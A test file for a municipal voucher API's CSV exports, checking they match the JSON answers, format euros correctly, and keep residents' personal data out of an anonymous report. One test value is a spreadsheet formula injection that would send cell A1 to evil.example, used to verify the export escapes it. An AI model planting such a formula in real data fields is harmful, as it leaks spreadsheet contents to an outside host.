import { addCalendarDays, dutchDay } from '@wijkteams/time';
import Papa from 'papaparse';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { CSV_MAX_ROWS, csvText, euros } from '../../src/csv.ts';
import { ADMIN_KEY, nodeAppFixture } from './fixture.ts';
import { bearer, expectProblem, json, seedProviders } from './helpers.ts';

/**
 * The CSV exports, each read back with papaparse and held against the JSON answer to the same
 * question: the same vouchers, entries and counts, the same cents, the euros agreeing with them.
 */
let fixture: Awaited<ReturnType<typeof nodeAppFixture>>;
const admin = bearer(ADMIN_KEY);
const PROVIDER = 'prv-csv-leerwerk';
/** Free text a provider sends with a redemption, as a spreadsheet would run it. */
const INJECTION = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")';
let n = 0;
const idem = () => ({ 'Idempotency-Key': `exports-test-${Date.now()}-${n++}` });
const today = () => dutchDay(new Date());

beforeAll(async () => {
  fixture = await nodeAppFixture({ KEY_RATE_LIMIT_PER_MINUTE: '100000' });
  await seedProviders(fixture.dataDir, 'waalre', [PROVIDER]);
});
afterAll(() => fixture.cleanup());
afterEach(() => {
  vi.useRealTimers();
});

const get = (path: string, accept?: string, headers: Record<string, string> = admin) =>
  fixture.request(path, { headers: { ...headers, ...(accept ? { Accept: accept } : {}) } });

async function issue(holder: string, count: number, tenant = 'waalre', validUntil?: string) {
  const res = await fixture.request(
    `/v1/${tenant}/voucher-batches`,
    json('POST', { holder, count, ...(validUntil ? { validUntil } : {}) }, { ...admin, ...idem() }),
  );
  expect(res.status, await res.clone().text()).toBe(201);
  return (await res.json()) as { accountId: string; vouchers: { code: string }[] };
}

async function redeem(code: string, requestReference?: string) {
  const res = await fixture.request(
    `/v1/waalre/vouchers/${code}/redemptions`,
    json(
      'POST',
      { provider: PROVIDER, ...(requestReference ? { requestReference } : {}) },
      { ...admin, ...idem() },
    ),
  );
  expect(res.status, await res.clone().text()).toBe(201);
  return (await res.json()) as { providerAccountId: string; transferId: string };
}

/** The CSV as a spreadsheet reads it: the raw text checked for the format, then its rows by header. */
async function readCsv(res: Response, filename: RegExp) {
  expect(res.status, await res.clone().text()).toBe(200);
  expect(res.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
  expect(res.headers.get('Content-Disposition')).toMatch(
    new RegExp(`^attachment; filename="${filename.source}"$`),
  );
  expect(res.headers.get('Vary')).toMatch(/\bAccept\b/);
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // the UTF-8 byte order mark
  const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes).slice(1);
  expect(text.endsWith('\r\n')).toBe(true);
  expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n](?=(?:[^"]*"[^"]*")*[^"]*$)/); // no bare LF or CR outside quotes
  const parsed = Papa.parse<Record<string, string>>(text, {
    header: true,
    delimiter: ';',
    skipEmptyLines: true,
  });
  expect(parsed.errors).toEqual([]);
  expect(parsed.meta.delimiter).toBe(';');
  return { text, header: text.slice(0, text.indexOf('\r\n')).split(';'), rows: parsed.data };
}

/** `12,50` → 1250; and it must agree with the cents column beside it. */
const centsOf = (eurosCell: string | undefined) => {
  expect(eurosCell).toMatch(/^-?\d+,\d{2}$/);
  return Math.round(Number((eurosCell as string).replace(',', '.')) * 100);
};
/** The same instant, to the second (the CSV writes seconds on the Dutch clock). */
const sameSecond = (csv: string | undefined, iso: string | null) => {
  if (iso === null) return expect(csv).toBe('');
  expect(csv).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+0[12]:00$/);
  expect(new Date(csv as string).getTime()).toBe(Math.floor(new Date(iso).getTime() / 1000) * 1000);
};

describe('the CSV format', () => {
  it('writes euros with a decimal comma next to whole cents, and refuses fractions of a cent', () => {
    expect([0, 5, 500, 1250, -500, -5, 123_456_789].map(euros)).toEqual([
      '0,00',
      '0,05',
      '5,00',
      '12,50',
      '-5,00',
      '-0,05',
      '1234567,89',
    ]);
    expect(() => euros(1.5)).toThrow(RangeError);
  });

  it('escapes text a spreadsheet would run as a formula, but leaves a negative amount a number', () => {
    const rows = ['=1+1', '+31 6', '-cmd', '@SUM(A1)', '\tx', '\rx', '-5,00', '-12', 'gewoon; tekst "quote"'];
    const text = csvText([{ name: 'cell', value: (r: string) => r }], rows);
    const lines = text.slice(1).split('\r\n');
    expect(lines.slice(1, 6)).toEqual([`"'=1+1"`, `"'+31 6"`, `"'-cmd"`, `"'@SUM(A1)"`, `"'\tx"`]);
    expect(text).toContain(`"'\rx"`);
    expect(text).toContain('\r\n-5,00\r\n-12\r\n');
    expect(text).toContain('"gewoon; tekst ""quote"""');
  });
});

describe('vouchers of a period (GET /vouchers)', () => {
  it('gives the same vouchers as CSV as the JSON pages do, with their state now', async () => {
    const from = today();
    const a = await issue('res-csv-a', 3);
    const b = await issue('res-csv-b', 2);
    await redeem(a.vouchers[0]?.code ?? '');
    const path = `/v1/waalre/vouchers?from=${from}&to=${from}`;

    // JSON, two at a time, followed to the end.
    const paged: Record<string, unknown>[] = [];
    let cursor: string | null = null;
    do {
      const res = await get(`${path}&limit=2${cursor ? `&cursor=${cursor}` : ''}`);
      expect(res.status).toBe(200);
      expect(res.headers.get('Vary')).toMatch(/\bAccept\b/);
      const page = (await res.json()) as { vouchers: Record<string, unknown>[]; nextCursor: string | null };
      expect(page.vouchers.length).toBeLessThanOrEqual(2);
      paged.push(...page.vouchers);
      cursor = page.nextCursor;
    } while (cursor);
    const mine = [...a.vouchers, ...b.vouchers].map((v) => v.code);
    expect(mine.every((code) => paged.some((v) => v.code === code))).toBe(true);

    const csv = await readCsv(
      await get(path, 'text/csv'),
      /vouchers-waalre-\d{4}-\d{2}-\d{2}-\d{4}-\d{2}-\d{2}\.csv/,
    );
    expect(csv.header).toEqual([
      'code',
      'status',
      'faceValueEuros',
      'faceValueCents',
      'validUntil',
      'issuedAt',
      'settledAt',
      'accountId',
    ]);
    expect(csv.rows.map((r) => r.code)).toEqual(paged.map((v) => v.code));
    for (const [i, row] of csv.rows.entries()) {
      const v = paged[i] as Record<string, string | number | null>;
      expect(row.status).toBe(v.status);
      expect(Number(row.faceValueCents)).toBe(v.faceValueCents);
      expect(centsOf(row.faceValueEuros)).toBe(v.faceValueCents);
      expect(row.accountId).toBe(v.accountId);
      sameSecond(row.validUntil, v.validUntil as string);
      sameSecond(row.issuedAt, v.issuedAt as string);
      sameSecond(row.settledAt, v.settledAt as string | null);
    }
    const redeemed = csv.rows.find((r) => r.code === a.vouchers[0]?.code);
    expect(redeemed).toMatchObject({ status: 'redeemed', faceValueEuros: '5,00', faceValueCents: '500' });
    expect(redeemed?.settledAt).not.toBe('');
  });

  it('says `expired` for a voucher past its date, before the expiry run', async () => {
    const validUntil = new Date(Date.now() + 60_000).toISOString();
    const { vouchers } = await issue('res-csv-expiring', 1, 'waalre', validUntil);
    const code = vouchers[0]?.code;
    const day = today();
    vi.useFakeTimers({ toFake: ['Date'], now: Date.now() + 120_000 });
    const path = `/v1/waalre/vouchers?from=${day}&to=${dutchDay(new Date())}`;
    const listed = (await (await get(path)).json()) as { vouchers: { code: string; status: string }[] };
    expect(listed.vouchers.find((v) => v.code === code)?.status).toBe('expired');
    const csv = await readCsv(await get(path, 'text/csv'), /vouchers-waalre-.*\.csv/);
    expect(csv.rows.find((r) => r.code === code)?.status).toBe('expired');
  });

  it('answers JSON without Accept, for */* and where JSON weighs more; CSV where it weighs more', async () => {
    const path = `/v1/waalre/vouchers?from=${today()}&to=${today()}`;
    for (const accept of [undefined, '*/*', 'application/json', 'text/csv;q=0.5, application/json'])
      expect((await get(path, accept)).headers.get('Content-Type'), String(accept)).toMatch(
        /^application\/json/,
      );
    const csv = await get(path, 'application/json;q=0.2, text/csv');
    expect(csv.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
  });

  it('refuses a bad period with a 400 naming it, and paging a CSV', async () => {
    const cases: [string, string[]][] = [
      ['from=2026-02-30&to=2026-03-01', ['query.from']],
      ['from=2026-03-01&to=31-03-2026', ['query.to']],
      ['to=2026-03-01', ['query.from']],
      ['from=2026-03-02&to=2026-03-01', ['query.to']],
      ['from=2026-03-01&to=2026-03-31&limit=501', ['query.limit']],
    ];
    for (const [query, names] of cases) {
      for (const accept of ['application/json', 'text/csv']) {
        const body = await expectProblem(
          await get(`/v1/waalre/vouchers?${query}`, accept),
          400,
          'validation-failed',
        );
        expect(
          (body.invalidParams as { name: string }[]).map((p) => p.name),
          `${query} ${accept}`,
        ).toEqual(names);
      }
    }
    const paging = await get(
      '/v1/waalre/vouchers?from=2026-03-01&to=2026-03-31&cursor=5&limit=10',
      'text/csv',
    );
    const body = await expectProblem(paging, 400, 'validation-failed');
    expect((body.invalidParams as { name: string }[]).map((p) => p.name)).toEqual([
      'query.cursor',
      'query.limit',
    ]);
  });

  it('does not collide with a single voucher, and keeps a provider’s key out of the list', async () => {
    const { vouchers } = await issue('res-csv-one', 1);
    const one = await get(`/v1/waalre/vouchers/${vouchers[0]?.code}`);
    expect(one.status).toBe(200);
    expect(await one.json()).toMatchObject({ code: vouchers[0]?.code, status: 'issued' });
    const created = await fixture.request(
      '/v1/waalre/api-keys',
      json('POST', { name: 'Leerwerk', scopes: ['vouchers:read'], providerId: PROVIDER }, admin),
    );
    expect(created.status).toBe(201);
    const { key } = (await created.json()) as { key: string };
    const res = await get(`/v1/waalre/vouchers?from=${today()}&to=${today()}`, 'text/csv', bearer(key));
    await expectProblem(res, 403, 'forbidden');
  });

  it(`refuses a CSV of more than ${CSV_MAX_ROWS} vouchers, naming the period to shorten`, async () => {
    // Alkmaar, on a day of its own: a hundred and one batches of a hundred.
    for (let i = 0; i <= CSV_MAX_ROWS / 100; i++) await issue(`res-bulk-${i}`, 100, 'alkmaar');
    const path = `/v1/alkmaar/vouchers?from=${today()}&to=${today()}`;
    const body = await expectProblem(await get(path, 'text/csv'), 400, 'validation-failed');
    expect(body.invalidParams).toEqual([
      { name: 'query.to', reason: expect.stringMatching(/shorter period/) },
    ]);
    // The JSON still pages through all of them.
    const page = (await (await get(`${path}&limit=500`)).json()) as {
      vouchers: unknown[];
      nextCursor: string;
    };
    expect(page.vouchers).toHaveLength(500);
    expect(page.nextCursor).toMatch(/^\d+$/);
  }, 60_000);
});

describe('an account’s statement (GET /accounts/{accountId}/transfers)', () => {
  it('gives the statement as CSV with the JSON’s amounts and balances, and the free text escaped', async () => {
    const batch = await issue('res-csv-statement', 3);
    const [first, second] = batch.vouchers.map((v) => v.code);
    const { providerAccountId } = await redeem(first ?? '', INJECTION);
    await redeem(second ?? '', 'WAA-2026-000042');

    for (const accountId of [batch.accountId, providerAccountId]) {
      const path = `/v1/waalre/accounts/${accountId}/transfers`;
      const page = (await (await get(path)).json()) as {
        entries: Record<string, string | number | null>[];
        nextCursor: string | null;
      };
      expect(page.nextCursor).toBeNull();
      const csv = await readCsv(await get(path, 'text/csv'), new RegExp(`statement-${accountId}\\.csv`));
      expect(csv.header).toEqual([
        'sequence',
        'transferId',
        'createdAt',
        'code',
        'reference',
        'externalReference',
        'amountEuros',
        'amountCents',
        'counterpartyAccountId',
        'balanceAfterEuros',
        'balanceAfterCents',
      ]);
      expect(csv.rows).toHaveLength(page.entries.length);
      for (const [i, row] of csv.rows.entries()) {
        const e = page.entries[i] as Record<string, string | number | null>;
        expect([row.transferId, Number(row.sequence), row.code, row.reference]).toEqual([
          e.transferId,
          e.sequence,
          e.code,
          e.reference,
        ]);
        expect(Number(row.amountCents)).toBe(e.amountCents);
        expect(centsOf(row.amountEuros)).toBe(e.amountCents);
        expect(Number(row.balanceAfterCents)).toBe(e.balanceAfterCents);
        expect(centsOf(row.balanceAfterEuros)).toBe(e.balanceAfterCents);
        sameSecond(row.createdAt, e.createdAt as string);
        // The injected reference reads back as text behind a quote; the others as they were.
        expect(row.externalReference).toBe(
          e.externalReference === INJECTION ? `'${INJECTION}` : (e.externalReference ?? ''),
        );
      }
      // In the raw text: quoted, behind a quote, so no spreadsheet runs it.
      expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Klik"")"`);
      expect(csv.text).not.toMatch(/(^|;)=HYPERLINK/m);
    }
    // The holder's side: a redemption is a debit, written as a negative number, not escaped.
    const holder = await readCsv(
      await get(`/v1/waalre/accounts/${batch.accountId}/transfers`, 'text/csv'),
      /.*/,
    );
    expect(holder.text).toMatch(/;-5,00;-500;/);
    expect(holder.rows.at(-1)).toMatchObject({ balanceAfterEuros: '5,00', balanceAfterCents: '500' });
  });

  it('exports a long statement in parts: limit, and a Link to the next part', async () => {
    const batch = await issue('res-csv-parts', 5);
    const path = `/v1/waalre/accounts/${batch.accountId}/transfers`;
    const all = (await (await get(path)).json()) as { entries: { transferId: string }[] };
    expect(all.entries).toHaveLength(5);
    const ids: string[] = [];
    let next: string | null = `${path}?limit=2`;
    let parts = 0;
    while (next) {
      const res = await get(next, 'text/csv');
      const link = res.headers.get('Link');
      ids.push(...(await readCsv(res, /statement-.*\.csv/)).rows.map((r) => r.transferId as string));
      next = link ? (/^<([^>]+)>; rel="next"$/.exec(link)?.[1] ?? null) : null;
      parts++;
    }
    expect(parts).toBe(3);
    expect(ids).toEqual(all.entries.map((e) => e.transferId));
  });

  it('refuses a JSON page over 500, and answers an unknown account 404 in CSV as in JSON', async () => {
    const batch = await issue('res-csv-limits', 1);
    const res = await get(`/v1/waalre/accounts/${batch.accountId}/transfers?limit=501`);
    const body = await expectProblem(res, 400, 'validation-failed');
    expect(body.invalidParams).toEqual([expect.objectContaining({ name: 'query.limit' })]);
    const csv = await get(`/v1/waalre/accounts/${batch.accountId}/transfers?limit=501`, 'text/csv');
    expect((await readCsv(csv, /.*/)).rows).toHaveLength(1);
    const unknown = `/v1/waalre/accounts/acc_00000000000000000000000000/transfers`;
    await expectProblem(await get(unknown, 'text/csv'), 404, 'not-found');
  });
});

describe('the voucher report (GET /voucher-reports)', () => {
  it('is one data row with the JSON’s numbers, in euros and cents and in vouchers', async () => {
    const batch = await issue('res-csv-report', 4);
    await redeem(batch.vouchers[0]?.code ?? '');
    const path = `/v1/waalre/voucher-reports?from=${addCalendarDays(today(), -1)}&to=${today()}`;
    const report = (await (await get(path)).json()) as Record<string, unknown> & {
      vouchers: Record<string, number>;
    };
    const csv = await readCsv(await get(path, 'text/csv'), /voucher-report-waalre-.*\.csv/);
    expect(csv.rows).toHaveLength(1);
    const row = csv.rows[0] as Record<string, string>;
    expect([row.from, row.to]).toEqual([report.from, report.to]);
    for (const part of ['issued', 'redeemed', 'expired', 'voided', 'outstanding']) {
      expect(Number(row[`${part}Cents`]), part).toBe(report[`${part}Cents`]);
      expect(centsOf(row[`${part}Euros`]), part).toBe(report[`${part}Cents`]);
      expect(Number(row[`${part}Vouchers`]), part).toBe(report.vouchers[part]);
    }
    expect(Number(row.issuedCents)).toBeGreaterThanOrEqual(2_000);
  });

  it('refuses a bad period with a 400 naming it, as CSV as in JSON', async () => {
    for (const accept of ['application/json', 'text/csv']) {
      const bad = await get('/v1/waalre/voucher-reports?from=2026-13-01&to=2026-03-01', accept);
      const body = await expectProblem(bad, 400, 'validation-failed');
      expect(body.invalidParams).toEqual([expect.objectContaining({ name: 'query.from' })]);
      const reversed = await get('/v1/waalre/voucher-reports?from=2026-03-02&to=2026-03-01', accept);
      const body2 = await expectProblem(reversed, 400, 'validation-failed');
      expect(body2.invalidParams).toEqual([expect.objectContaining({ name: 'query.to' })]);
    }
  });
});

describe('the request report (GET /request-reports)', () => {
  const PERSONAL = {
    name: 'Wilhelmina Zoutelande-Pietersen',
    email: 'w.zoutelande@voorbeeld.nl',
    phone: '0612398745',
    description: 'Mijn dakgoot lekt boven de keukendeur, graag hulp',
    houseNumber: 417,
  };

  it('is anonymous: counts only, not a name, contact or description of any request', async () => {
    for (const category of ['odd-jobs', 'odd-jobs', 'gardening']) {
      const res = await fixture.request(
        '/v1/zeist/requests',
        json(
          'POST',
          {
            postcode: '3701 AB',
            houseNumber: PERSONAL.houseNumber,
            category,
            description: PERSONAL.description,
            contact: { name: PERSONAL.name, email: PERSONAL.email, phone: PERSONAL.phone },
            consent: true,
          },
          admin,
        ),
      );
      expect(res.status, await res.clone().text()).toBe(201);
    }
    const path = `/v1/zeist/request-reports?from=${today()}&to=${today()}`;
    const report = (await (await get(path)).json()) as {
      total: number;
      resolved: number;
      byTeam: { teamId: string; teamName: string | null; count: number }[];
      byCategory: { category: string; count: number }[];
      byMonth: { month: string; count: number }[];
      byStatus: { status: string; count: number }[];
      byTier: { tier: string | null; count: number; resolved: number; shareOfResolved: number }[];
    };
    expect(report.total).toBe(3);
    const csv = await readCsv(await get(path, 'text/csv'), /request-report-zeist-.*\.csv/);
    expect(csv.header).toEqual([
      'from',
      'to',
      'breakdown',
      'key',
      'name',
      'count',
      'resolved',
      'shareOfResolved',
    ]);

    // Nothing the residents wrote is in it, however it is spelled.
    const lower = csv.text.toLowerCase();
    for (const personal of [
      PERSONAL.name,
      'zoutelande',
      PERSONAL.email,
      PERSONAL.phone,
      '612398745',
      PERSONAL.description,
      'dakgoot',
    ])
      expect(lower, personal).not.toContain(personal.toLowerCase());
    // Short numbers could be part of a generated id: they must not be a cell (or a word in one).
    const words = csv.rows.flatMap((row) =>
      Object.values(row).flatMap((cell) => cell.split(/[^0-9A-Za-z]+/)),
    );
    for (const personal of ['3701', '3701AB', String(PERSONAL.houseNumber)])
      expect(words, personal).not.toContain(personal);

    // The same counts as the JSON, line by line.
    const lines = (breakdown: string) =>
      csv.rows
        .filter((r) => r.breakdown === breakdown)
        .map((r) => ({ key: r.key === '' ? null : r.key, name: r.name, count: Number(r.count) }));
    expect(csv.rows.filter((r) => r.breakdown === 'total')).toEqual([
      expect.objectContaining({ key: '', count: '3', resolved: String(report.resolved) }),
    ]);
    expect(lines('team')).toEqual(
      report.byTeam.map((t) => ({ key: t.teamId, name: t.teamName ?? '', count: t.count })),
    );
    expect(lines('category')).toEqual(
      report.byCategory.map((t) => ({ key: t.category, name: '', count: t.count })),
    );
    expect(lines('month')).toEqual(report.byMonth.map((t) => ({ key: t.month, name: '', count: t.count })));
    expect(lines('status')).toEqual(
      report.byStatus.map((t) => ({ key: t.status, name: '', count: t.count })),
    );
    const tiers = csv.rows.filter((r) => r.breakdown === 'tier');
    expect(
      tiers.map((r) => ({
        tier: r.key === '' ? null : r.key,
        count: Number(r.count),
        resolved: Number(r.resolved),
        shareOfResolved: Number(String(r.shareOfResolved).replace(',', '.')),
      })),
    ).toEqual(report.byTier);
    expect(tiers.every((r) => /^\d,\d{4}$/.test(String(r.shareOfResolved)))).toBe(true);
    // Every row is one of the breakdowns, and every column is a count, a key or a team's name.
    const keys = new Set([
      ...report.byTeam.map((t) => t.teamId),
      ...report.byCategory.map((t) => t.category),
      ...report.byMonth.map((t) => t.month),
      ...report.byStatus.map((t) => t.status),
      ...report.byTier.map((t) => t.tier ?? ''),
      '',
    ]);
    expect(csv.rows.every((r) => keys.has(String(r.key)))).toBe(true);
    const names = new Set(['', ...report.byTeam.map((t) => t.teamName ?? '')]);
    expect(csv.rows.every((r) => names.has(String(r.name)))).toBe(true);
  });

  it('refuses a bad period with a 400 naming it, as CSV as in JSON', async () => {
    for (const accept of ['application/json', 'text/csv']) {
      const bad = await get('/v1/zeist/request-reports?from=2026-02-29&to=2026-03-01', accept);
      const body = await expectProblem(bad, 400, 'validation-failed');
      expect(body.invalidParams).toEqual([expect.objectContaining({ name: 'query.from' })]);
      const reversed = await get('/v1/zeist/request-reports?from=2026-03-02&to=2026-03-01', accept);
      await expectProblem(reversed, 400, 'validation-failed');
    }
  });
});
